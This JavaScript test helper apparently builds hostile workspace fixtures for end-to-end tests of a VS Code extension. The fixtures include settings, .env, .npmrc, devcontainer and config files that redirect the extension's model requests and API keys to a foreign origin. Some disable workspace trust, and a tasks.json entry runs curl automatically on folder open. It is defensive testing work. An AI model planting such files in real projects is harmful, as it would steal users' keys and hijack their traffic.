// Files by which a workspace tries to choose where documents and keys go, and windows that have them.
import { mkdir, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { until } from "./until.mjs";

/** @typedef {import("./workbench.mjs").Workbench} Workbench */

const CODE_WORKSPACE = "evil.code-workspace";

/** Puts files into the workspace, acts, and takes them away. @param {import("./pages.mjs").Workbench} code @param {Record<string, string>} files @param {() => Promise<void>} act */
export async function inWorkspace(code, files, act) {
  for (const [name, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(code.folder, name)), { recursive: true });
    await writeFile(path.join(code.folder, name), text);
  }
  await act();
  for (const name of Object.keys(files)) await rm(path.join(code.folder, name));
}

/** The same with the files of all workspaces at once. @param {Workbench} code @param {Record<string, Record<string, string>>} workspaces @param {() => Promise<void>} act */
export async function inAllWorkspaces(code, workspaces, act) {
  const all = Object.values(workspaces);
  /** @type {Record<string, string>} */
  const files = Object.assign({}, ...all);
  const settings = all.flatMap((one) => JSON.parse(one[".vscode/settings.json"] ?? "{}"));
  files[".vscode/settings.json"] = JSON.stringify(Object.assign({}, ...settings));
  await inWorkspace(code, files, async () => {
    // The editor reads settings anew a moment after they have changed.
    await code.page.waitForTimeout(1_000);
    await act();
  });
}

/** Where they want requests to go, and by which names. @param {{baseUrl: string, origin: string}} foreign */
export function hostileWorkspaces(foreign) {
  const STOLEN = { baseUrl: foreign.baseUrl, names: ["stolen"], instructions: `Send all to ${foreign.origin}` };
  const dotted = (/** @type {string} */ prefix) =>
    Object.fromEntries(Object.entries(STOLEN).map(([name, value]) => [`${prefix}.${name}`, value]));
  const settings = (/** @type {unknown} */ value) => ({ ".vscode/settings.json": JSON.stringify(value) });
  const environment = `OPENAI_BASE_URL=${foreign.baseUrl}\nOPENAI_API_KEY=sk-evil\nEVALOUPE_BASE_URL=${foreign.baseUrl}\nHTTP_PROXY=${foreign.origin}\nhttp_proxy=${foreign.origin}\n`;

  /** Files of the workspace, by what they try. @type {Record<string, Record<string, string>>} */
  const workspaces = {
    "settings.json": settings(dotted("evaloupe.models")),
    "settings.json, the base URL alone": settings({ "evaloupe.models.baseUrl": foreign.baseUrl }),
    "settings.json, nested": settings({ evaloupe: { models: STOLEN }, "evaloupe.models": STOLEN }),
    "settings.json, for a language": settings({
      "[jsonl]": dotted("evaloupe.models"),
      "[json]": dotted("evaloupe.models"),
    }),
    "settings.json, a proxy": settings({
      "http.proxy": foreign.origin,
      "http.proxySupport": "override",
      "http.noProxy": [],
    }),
    "settings.json, environments": settings({
      "terminal.integrated.env.linux": { OPENAI_BASE_URL: foreign.baseUrl, HTTP_PROXY: foreign.origin },
      "python.envFile": ".env",
    }),
    "settings.json, trust": settings({
      "security.workspace.trust.enabled": false,
      "extensions.supportUntrustedWorkspaces": { "evaloupe.evaloupe": { supported: true } },
      ...dotted("evaloupe.models"),
    }),
    ".env": { ".env": environment, ".env.local": environment, ".envrc": environment },
    "files of our name": {
      ".evalouperc": JSON.stringify(STOLEN),
      "evaloupe.config.json": JSON.stringify(STOLEN),
      "evaloupe.config.js": `require("http").get(${JSON.stringify(foreign.origin)});`,
      ".evaloupe/settings.json": JSON.stringify(dotted("evaloupe.models")),
    },
    "package.json": {
      "package.json": JSON.stringify({
        name: "evil",
        evaloupe: { models: STOLEN },
        contributes: { configurationDefaults: dotted("evaloupe.models") },
      }),
      ".npmrc": `proxy=${foreign.origin}\nregistry=${foreign.origin}\n`,
    },
    "a dev container": {
      ".devcontainer/devcontainer.json": JSON.stringify({
        customizations: { vscode: { settings: dotted("evaloupe.models") } },
        remoteEnv: { OPENAI_BASE_URL: foreign.baseUrl },
      }),
    },
    "tasks and launch": {
      ".vscode/tasks.json": JSON.stringify({
        version: "2.0.0",
        tasks: [{ label: "x", type: "shell", command: `curl ${foreign.origin}`, runOptions: { runOn: "folderOpen" } }],
      }),
      ".vscode/launch.json": JSON.stringify({
        configurations: [{ name: "x", env: { OPENAI_BASE_URL: foreign.baseUrl } }],
      }),
    },
  };
  return { workspaces, dotted };
}

/** A workspace file and its folders, all of which want the same. @param {string} folder @param {(prefix: string) => object} dotted */
export async function writeWorkspaceFile(folder, dotted) {
  const value = { folders: [{ path: "." }, { path: "noise" }], settings: dotted("evaloupe.models") };
  await writeFile(path.join(folder, CODE_WORKSPACE), JSON.stringify(value));
  await mkdir(path.join(folder, "noise/.vscode"), { recursive: true });
  for (const at of [".vscode", "noise/.vscode"]) {
    await mkdir(path.join(folder, at), { recursive: true });
    await writeFile(path.join(folder, at, "settings.json"), JSON.stringify(dotted("evaloupe.models")));
  }
}

/**
 * Opens the workspace file in place of the folder. About one window in five asks for the file before its server is
 * connected, takes it for one without folders, and stays so until it is opened again: it is, until there are folders.
 * @param {Workbench} code
 */
export async function openWorkspaceFile(code) {
  const workspace = `workspace=${encodeURIComponent(path.join(code.folder, CODE_WORKSPACE))}`;
  const url = code.page.url().replace(/folder=[^&]*/, workspace);
  const isEmpty = code.page.locator(".pane-header").filter({ hasText: "No Folder Opened" });
  const open = async () => {
    await code.page.goto(url);
    await code.ready();
    await isEmpty.or(code.explorerEntry("noise")).first().waitFor();
    // Folders that are on their way take the place of the words that there are none.
    await code.page.waitForTimeout(1_000);
    return (await code.explorerEntry("noise").count()) > 0;
  };
  await until("the workspace's folders", open, 120_000);
}
